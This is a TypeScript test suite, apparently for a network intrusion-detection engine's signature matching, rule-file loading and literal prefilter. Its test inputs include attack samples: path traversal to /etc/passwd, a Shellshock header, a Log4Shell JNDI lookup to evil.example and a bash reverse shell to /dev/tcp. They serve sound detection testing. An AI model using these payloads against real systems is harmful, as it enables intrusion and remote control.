import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { RE2JS } from 're2js';
import { describe, expect, it } from 'vitest';
import type { CellValue } from '../../../model/column-batch.ts';
import type { EarlierPart, PayloadEvent } from '../../../model/sinks.ts';
import { loadRules } from '../registry.ts';
import { LiteralGate } from './literal-gate.hot.ts';
import { requiredLiteral } from '../matcher/required-literal.ts';

type Row = Readonly<Record<string, CellValue>>;

interface Packet {
  text: string;
  fromOrig?: boolean;
  connNo?: number;
  ipProto?: number;
  respP?: number;
}

/** What each direction sent so far, as the pipeline would tell of it. */
class Sent {
  readonly #packets = new Map<string, { text: string; serial: number; frame: number }[]>();

  event({ text, fromOrig = true, connNo = 1, ipProto = 6, respP = 80 }: Packet, frame: number): PayloadEvent {
    const bytes = Buffer.from(`##${text}##`, 'latin1');
    const key = `${connNo} ${fromOrig}`;
    const sent = ipProto === 6 ? (this.#packets.get(key) ?? []) : [];
    const before = sent.map((packet) => packet.text).join('');
    if (text !== '') this.#packets.set(key, [...sent, { text, serial: frame, frame }]);
    return {
      uid: `C${connNo}`,
      connNo,
      proto: 1,
      ipProto,
      fromOrig,
      origH: Uint32Array.of(0, 0, 0xffff, 0x0a000001),
      respH: Uint32Array.of(0, 0, 0xffff, 0x0a000002),
      origP: 40000,
      respP,
      bytes,
      off: 2,
      len: bytes.length - 4,
      tsSec: 1_790_000_000,
      tsNsec: 5,
      file: 0,
      frame,
      before: before === '' ? -1 : before.charCodeAt(before.length - 1),
      serial: ipProto === 6 ? frame : 0,
      earlier: (most) => {
        let from = -Math.max(0, before.length - most);
        const parts = sent.map(({ text, serial, frame }): EarlierPart => {
          const part = { serial, file: 0, frame, from };
          from += text.length;
          return part;
        });
        return { bytes: Buffer.from(before.slice(-most), 'latin1'), parts };
      },
      mayHold: true,
    };
  }
}

const run = (rules: string, packets: readonly Packet[], more: Partial<PayloadEvent> = {}): Row[] => {
  const rows: Row[] = [];
  const sent = new Sent();
  const sink = loadRules(rules, 'x.json').sink?.();
  packets.forEach((packet, i) => sink?.payload({ ...sent.event(packet, i + 1), ...more }, { row: (_table, values) => rows.push(values) }));
  return rows;
};

const one = (more: object): string => JSON.stringify([{ signature_id: 7, description: 'd', pattern: 'needle', severity: 'High', type: 't', ...more }]);

const shipped = readFileSync(new URL('../../../../../rules/signatures/coldwire.json', import.meta.url), 'utf8');

const get = (path: string, headers = ''): string => `GET ${path} HTTP/1.1\r\nHost: a.example\r\n${headers}\r\n`;

describe('the shipped signatures', () => {
  const cases: Readonly<Record<string, { hits: string[]; misses: string[] }>> = {
    'CW-1001': {
      hits: [get('/download?file=../../../etc/passwd'), get('/../../etc/passwd'), get('/a?f=..%2F..%2Fetc%2Fpasswd'), get('/%2e%2e/etc/passwd')],
      misses: [get('/docs/../page.html'), get('/help?topic=etc%2Fpasswd-policy'), get('/etc/passwd'), 'see ../etc/passwd'],
    },
    'CW-1002': {
      hits: [get('/', 'Authorization: Basic YWxhZGRpbjpvcGVu\r\n'), get('/', 'proxy-authorization: basic QWxhZGRpbg==\r\n')],
      misses: [get('/', 'Authorization: Bearer YWxhZGRpbjpvcGVu\r\n'), get('/', 'WWW-Authenticate: Basic realm="x"\r\n')],
    },
    'CW-1003': { hits: [get('/', 'User-Agent: () { :; }; /bin/id\r\n')], misses: [get('/', 'User-Agent: f() { return 1 }\r\n')] },
    'CW-1004': { hits: [get('/?q=${jndi:ldap://evil.example/a}'), get('/', 'X: ${JNDI:RMI://h/a}\r\n')], misses: [get('/?q=${java:version}'), 'jndi:ldap://x'] },
    'CW-1005': { hits: ['-----BEGIN PRIVATE KEY-----\n', '-----BEGIN OPENSSH PRIVATE KEY-----'], misses: ['-----BEGIN PUBLIC KEY-----', '-----BEGIN CERTIFICATE-----'] },
    'CW-1006': { hits: ['$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$'], misses: ['EICAR-STANDARD'] },
    'CW-1007': { hits: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'], misses: ['ls /dev/tcp', 'bash -i'] },
    'CW-1900': { hits: ['text=COLDWIRE-DEMO-554b9760'], misses: ['text=COLDWIRE-DEMO-'] },
    'CW-1901': { hits: [get('/', 'User-Agent: coldwire-signature-demo/1.0\r\n')], misses: [get('/', 'User-Agent: curl/8\r\n')] },
  };

  it('all load, and all are tried here', () => {
    const { rules, refused } = loadRules(shipped, 'coldwire.json');
    expect(refused).toEqual([]);
    expect(rules.map(({ id }) => id)).toEqual(Object.keys(cases));
  });

  it.each(Object.entries(cases))('%s', (id, { hits, misses }) => {
    for (const text of hits) expect(run(shipped, [{ text }]).map((row) => row['rule_id']), text).toEqual([id]);
    for (const text of misses) expect(run(shipped, [{ text }]), text).toEqual([]);
  });
});

describe('a payload', () => {
  it('gives a row of alert', () => {
    expect(run(one({ note: 'kept' }), [{ text: 'hay needle hay', fromOrig: false }])).toEqual([
      {
        ts: 1_790_000_000_000_000_005n,
        uid: 'C1',
        id_orig_h: [0n, 0xffff0a000001n],
        id_orig_p: 40000,
        id_resp_h: [0n, 0xffff0a000002n],
        id_resp_p: 80,
        rule_id: '7',
        msg: 'd',
        classtype: 't',
        severity: 75,
        action: 'alert',
        src: [0n, 0xffff0a000002n],
        src_p: 80,
        dst: [0n, 0xffff0a000001n],
        dst_p: 40000,
        proto: 'tcp',
        direction: 'to_client',
        matches: '[{"buffer":"payload","offset":4,"length":6}]',
        metadata: '{"note":"kept"}',
        file: 0,
        first_frame: 1,
        capture_file: 0,
        capture_frame: 1,
      },
    ]);
  });

  it('matches across packets of one direction, once, and says where it began', () => {
    const rows = run(one({}), [{ text: 'xxnee' }, { text: 'nothing', fromOrig: false }, { text: 'd' }, { text: 'le and more' }, { text: 'still more' }]);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ first_frame: 1, capture_frame: 4, matches: '[{"buffer":"payload","offset":-4,"length":6}]' });
  });

  it('does not join directions or connections', () => {
    expect(run(one({}), [{ text: 'nee' }, { text: 'dle', fromOrig: false }])).toEqual([]);
    expect(run(one({}), [{ text: 'nee' }, { text: 'dle', connNo: 2 }])).toEqual([]);
  });

  it('is found however it is cut', () => {
    const text = `${'a'.repeat(50)}GET /../etc/passwd${'b'.repeat(50)}`;
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 6 }), (cuts) => {
        const at = [0, ...cuts.sort((a, b) => a - b), text.length];
        const packets = at.slice(1).map((end, i) => ({ text: text.slice(at[i], end) }));
        expect(run(shipped, packets).map((row) => row['rule_id'])).toEqual(['CW-1001']);
      }),
    );
  });

  it('of which a look ahead knows that no literal lies inside is searched at its border alone', () => {
    const nothing = { mayHold: false };
    expect(run(one({}), [{ text: 'xxnee' }, { text: 'dle and needle' }], nothing)).toHaveLength(1);
    expect(run(one({}), [{ text: 'a needle' }, { text: 'and a needle' }], nothing)).toEqual([]);
  });

  it('matches where the literal came before the rest of the expression, up to 512 bytes before', () => {
    const pattern = 'needle.*(end|stop)';
    const dots = (n: number): Packet => ({ text: '.'.repeat(n) });
    expect(run(one({ pattern }), [{ text: 'a needle' }, dots(100), dots(200), { text: 'the end' }])).toMatchObject([{ first_frame: 1, capture_frame: 4 }]);
    expect(run(one({ pattern }), [{ text: 'needle' }, dots(506), { text: 'end' }])).toHaveLength(1);
    expect(run(one({ pattern }), [{ text: 'needle' }, dots(507), { text: 'end' }])).toEqual([]);
    expect(run(one({ pattern }), [{ text: 'needle' }, dots(300), { text: 'needle' }, dots(300), { text: 'end' }])).toMatchObject([{ first_frame: 3 }]);
  });

  it('tells the packet of each byte before it', () => {
    expect(run(one({}), [{ text: 'xx' }, { text: 'a needle' }])).toMatchObject([{ first_frame: 2, capture_frame: 2 }]);
    expect(run(one({ pattern: 'n.*dle' }), [{ text: 'xx' }, { text: 'nee' }, { text: '' }, { text: 'e' }, { text: 'dle' }])).toMatchObject([
      { first_frame: 2, capture_frame: 5, matches: '[{"buffer":"payload","offset":-4,"length":7}]' },
    ]);
  });

  it('keeps to protocol and port', () => {
    expect(run(one({ protocol: 'UDP' }), [{ text: 'needle' }])).toEqual([]);
    expect(run(one({ protocol: 'UDP' }), [{ text: 'needle', ipProto: 17 }])).toHaveLength(1);
    expect(run(one({ protocol: 'HTTP', port: '80' }), [{ text: 'needle' }])).toHaveLength(1);
    expect(run(one({ port: 81 }), [{ text: 'needle' }])).toEqual([]);
    expect(run(one({ port: 40000 }), [{ text: 'needle' }])).toHaveLength(1);
  });

  it('is bytes, not text', () => {
    expect(run(one({ pattern: '\\xff\\xfe[\\x80-\\x90]' }), [{ text: 'x\xff\xfe\x85' }])).toHaveLength(1);
    expect(run(one({ pattern: 'a.c' }), [{ text: 'abc' }])).toHaveLength(1);
  });
});

describe('a file', () => {
  it('keeps what is sound and names what is not', () => {
    const text = `[
      {"signature_id": "ok", "description": "d", "pattern": "abcd", "severity": "Low", "type": "t"},
      {"signature_id": "ahead", "description": "d", "pattern": "a(?=b)", "severity": "Low", "type": "t"},
      {"signature_id": "behind", "description": "d", "pattern": "(?<!a)b", "severity": "Low", "type": "t"},
      {"signature_id": "back", "description": "d", "pattern": "(a)\\\\1", "severity": "Low", "type": "t"},
      {"signature_id": "open", "description": "d", "pattern": "(a", "severity": "Low", "type": "t"},
      {"signature_id": "bomb", "description": "d", "pattern": "((a{100}){100}){100}", "severity": "Low", "type": "t"},
      {"signature_id": "word", "description": "d", "pattern": "abcd", "severity": "Fatal", "type": "t"},
      {"signature_id": 12, "description": "d", "pattern": "abcd", "severity": "Low", "type": "t", "protocol": "quux"},
      {"signature_id": "ok", "description": "d", "pattern": "abcd", "severity": "Low", "type": "t"},
      {"description": "d"},
      "rubbish"
    ]`;
    const { rules, refused, refusedWhole } = loadRules(text, 'mine.json');
    expect(refusedWhole).toBe(false);
    expect(rules).toEqual([{ id: 'ok', name: 'd', rev: null, severity: 25, file: 'mine.json' }]);
    expect(refused.map(({ file, line, sid }) => [file, line, sid])).toEqual([
      ['mine.json', 3, 'ahead'],
      ['mine.json', 4, 'behind'],
      ['mine.json', 5, 'back'],
      ['mine.json', 6, 'open'],
      ['mine.json', 7, 'bomb'],
      ['mine.json', 8, 'word'],
      ['mine.json', 9, '12'],
      ['mine.json', 10, 'ok'],
      ['mine.json', null, null],
      ['mine.json', null, null],
    ]);
    expect(refused[0]?.why).toContain('linear time');
  });

  it.each(['', 'not json', '{"a": 1}', '5', 'null'])('that is no list is refused as a whole: %j', (text) => {
    expect(loadRules(text, 'x.json')).toMatchObject({ rules: [], refusedWhole: true, sink: undefined, refused: [{ sid: null }] });
  });

  it('of no known language is refused as a whole', () => {
    expect(loadRules('rule x {}', 'x.lua')).toMatchObject({ refusedWhole: true, refused: [{ file: 'x.lua' }] });
  });

  it('takes the points of severities', () => {
    const points = ['Critical', 'high', 'MEDIUM', 'Low', 'Info', 60].map((severity) => loadRules(one({ severity }), 'x.json').rules[0]?.severity);
    expect(points).toEqual([95, 75, 50, 25, 5, 60]);
  });
});

describe('the literal that a pattern requires', () => {
  it.each<[string, string | undefined, boolean]>([
    ['needle', 'needle', false],
    ['(?i)Needle', 'Needle', true],
    ['ab+cdefg', 'cdefg', false],
    ['abcdx?efg', 'abcd', false],
    ['abcde*fg', 'abcd', false],
    ['x|needle', undefined, false],
    ['(x|y)needle[abc]foo', 'needle', false],
    ['[]needle]abcd', 'abcd', false],
    ['[^]needle]abcd', 'abcd', false],
    ['\\.\\./etc/passwd', '../etc/passwd', false],
    ['\\x41BCD\\d', 'ABCD', false],
    ['abc', undefined, false],
    ['\\Qa|b\\Ecdef', undefined, false],
    ['a{0,3}bcde', 'bcde', false],
    ['(abc(?i)def)ghij', undefined, false],
    ['needle{0}', 'needl', false],
  ])('%s', (pattern, text, fold) => {
    expect(requiredLiteral(pattern)).toEqual(text === undefined ? undefined : { text, fold });
  });

  it('is in every match', () => {
    const atom = fc.constantFrom('a', 'b', 'Z', '\\.', '[abc]', '[]a]', '(a|b)', '(?:ab)', '\\d', '.', '\\x61', 'abcd');
    const times = fc.constantFrom('', '', '', '?', '*', '+', '{2}', '{0,2}', '+?');
    const pattern = fc.array(fc.tuple(atom, times).map((pair) => pair.join('')), { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(pattern, fc.stringMatching(/^[abcdZ.1]{0,24}$/u), (p, subject) => {
        const literal = requiredLiteral(p, 1);
        const matcher = RE2JS.compile(p).matcher(subject);
        if (literal && matcher.find()) expect(matcher.group()).toContain(literal.text);
      }),
      { numRuns: 2_000 },
    );
  });
});

it('the gate never misses a literal, in any case', () => {
  const word = fc.stringMatching(/^[a-cA-C/]{4,40}$/u);
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 20 }), fc.stringMatching(/^[a-cA-C/]{0,90}$/u), (literals, subject) => {
      const gate = new LiteralGate(literals.map((text) => Buffer.from(text)));
      const bytes = Buffer.from(subject);
      for (let cut = 0; cut <= bytes.length; cut += 7) {
        const found = new Uint32Array(literals.length);
        gate.before(bytes, 0, 0);
        gate.find(bytes, 0, cut, found);
        gate.before(bytes, cut, cut);
        gate.find(bytes, cut, bytes.length, found);
        literals.forEach((text, i) => {
          if (subject.toLowerCase().includes(text.toLowerCase())) expect(found[i]).toBeGreaterThan(0);
        });
      }
    }),
    { numRuns: 500 },
  );
});

it('the gate lets every literal across a border pass, and little else', () => {
  const word = fc.stringMatching(/^[a-cA-C/]{4,40}$/u);
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 5 }), fc.nat(), fc.boolean(), (literals, cut, cutAgain) => {
      const gate = new LiteralGate(literals.map((text) => Buffer.from(text)));
      for (const text of literals) {
        const at = 1 + (cut % (text.length - 1));
        const rest = Buffer.from(text.slice(at).toUpperCase());
        expect(gate.mayCross(text.charCodeAt(at - 1), rest, 0, cutAgain ? 1 : rest.length)).toBe(true);
      }
    }),
  );
  const gate = new LiteralGate([Buffer.from('needle'), Buffer.from('\r\nauthorization: ')]);
  const crosses = (before: string, after: string): boolean => gate.mayCross(before.charCodeAt(0), Buffer.from(after), 0, after.length);
  expect([crosses('n', 'eedle'), crosses('e', 'e'), crosses('l', 'e!'), crosses('\n', 'Au')]).toEqual([true, true, true, true]);
  expect([crosses('n', 'ea'), crosses('x', 'needle'), crosses('e', 'x'), crosses('\n', 'Ax')]).toEqual([false, false, false, false]);
});

it('the look ahead marks a byte of every literal, however the file is cut', () => {
  const word = fc.stringMatching(/^[a-cA-C/]{4,40}$/u);
  fc.assert(
    fc.property(
      fc.array(word, { minLength: 1, maxLength: 20 }),
      fc.stringMatching(/^[a-cA-C/]{0,200}$/u),
      fc.integer({ min: 1, max: 60 }),
      fc.integer({ min: 0, max: 100_000 }),
      (literals, subject, piece, base) => {
        const gate = new LiteralGate(literals.map((text) => Buffer.from(text)));
        // Bytes of a file from `base` on, its own buffer as the look ahead has it.
        const bytes = Uint8Array.from(Buffer.from(`${subject}....`));
        const data = new DataView(bytes.buffer);
        const marks: number[] = [];
        for (let from = 0; from < subject.length; from += piece)
          gate.search(bytes, data, from, Math.min(subject.length, from + piece), subject.length, base, (at) => marks.push(at));
        for (const literal of literals) {
          const at = subject.toLowerCase().indexOf(literal.toLowerCase());
          if (at >= 0) expect(marks.some((mark) => mark >= at && mark < at + literal.length)).toBe(true);
        }
      },
    ),
    { numRuns: 500 },
  );
});
